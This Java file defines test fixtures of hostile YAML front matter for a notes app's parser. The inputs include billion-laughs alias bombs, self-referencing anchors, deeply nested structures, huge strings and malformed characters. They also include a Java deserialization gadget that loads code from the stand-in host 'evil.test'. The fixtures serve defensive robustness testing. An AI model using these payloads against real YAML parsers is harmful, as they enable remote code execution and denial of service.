package dev.daybook.hostile;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/// Front matter that means far more than it says, or that no reader was made for.
///
/// @param content what stands between the lines of dashes
public record PathologicalFrontMatter(String name, String content) {
  /// All kinds.
  public static List<PathologicalFrontMatter> all() {
    return List.of(
        of("billion laughs", "a0: &a0 [x,x]\n" + aliases(30, "[*a%d,*a%d]")),
        of("long strings in maps", longStringsInMaps()),
        of("a list in itself", "a: &a [*a]\ntags: *a"),
        of("a map in itself", "a: &a {b: *a}\ntags: *a"),
        of("deep lists", "a: " + "[".repeat(20_000)),
        of("deep maps", "a: " + "{b: ".repeat(10_000)),
        of(
            "deep blocks",
            IntStream.range(0, 300).mapToObj(i -> " ".repeat(i) + "a:").collect(lines())),
        of("deep dashes", "- ".repeat(10_000)),
        of("a million digits", "a: " + "9".repeat(60_000)),
        of(
            "tags of Java",
            "a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://evil.test']]"),
        of("tags of nobody", "a: !<tag:evil> b\n? !x [c]\n: d"),
        of("many keys", IntStream.range(0, 5000).mapToObj(i -> "k" + i + ": v").collect(lines())),
        of("a long key", "k".repeat(60_000) + ": v"),
        of("a long tag", "tags: [" + "t".repeat(40_000) + "]"),
        of(
            "many tags",
            "tags: ["
                + IntStream.range(0, 8000).mapToObj(i -> "t" + i).collect(Collectors.joining(","))
                + "]"),
        of("many slashes", "tags: [" + "a/".repeat(20_000) + "b]"),
        of(
            "control characters",
            "title: \"\\0\\a\\e\\u2028\\uFFFE\\x85\"\ntags: [\"\\0\", \"\\n\"]"),
        of("lone surrogates", "title: \"\\uD83D\"\ntags: [\"\\uDC00\"]"),
        of("quotes without end", "a: \"" + "b".repeat(50_000)),
        of("many quotes", "a: " + "'".repeat(50_001)),
        of("many colons", ": ".repeat(20_000)),
        of("many question marks", "? ".repeat(10_000)),
        of(
            "many anchors",
            IntStream.range(0, 4000).mapToObj(i -> "a" + i + ": &b" + i + " c").collect(lines())),
        of("many documents", "--- a\n".repeat(5000)),
        of("many directives", "%YAML 1.2\n".repeat(5000)),
        of("block scalars", "a: |9\n" + (" ".repeat(9) + "b\n").repeat(4000)),
        of("merge keys", "a: &a {b: c}\nd: {<<: [*a, *a, *a]}\n<<: *a"),
        of("far longer than is read", ("k: " + "v".repeat(100) + "\n").repeat(20_000)),
        of("dates out of range", "date: 99999999999999999999\nmodified: -292275055-05-16"),
        of("nothing but blanks", " \t\n".repeat(10_000)));
  }

  /// A note with it, whose text can still be found by the word `bodyword`.
  public String asNote() {
    return "---\n" + content + "\n---\n\nA bodyword stands here.\n";
  }

  private static PathologicalFrontMatter of(String name, String content) {
    return new PathologicalFrontMatter(name, content);
  }

  private static String aliases(int count, String line) {
    return IntStream.range(0, count)
        .mapToObj(i -> "a" + (i + 1) + ": &a" + (i + 1) + " " + line.formatted(i, i))
        .collect(lines());
  }

  /// Each map holds the one before it twice, and the first holds a long text a thousand times.
  private static String longStringsInMaps() {
    String first =
        "s: &s " + "x".repeat(20_000) + "\nm0: &m0 {k: [" + "*s,".repeat(1000) + "*s]}\n";
    return first
        + IntStream.range(1, 10)
            .mapToObj(i -> "m%d: &m%d {a: *m%d, b: *m%d}".formatted(i, i, i - 1, i - 1))
            .collect(lines());
  }

  private static java.util.stream.Collector<CharSequence, ?, String> lines() {
    return Collectors.joining("\n");
  }

  @Override
  public String toString() {
    return name;
  }
}
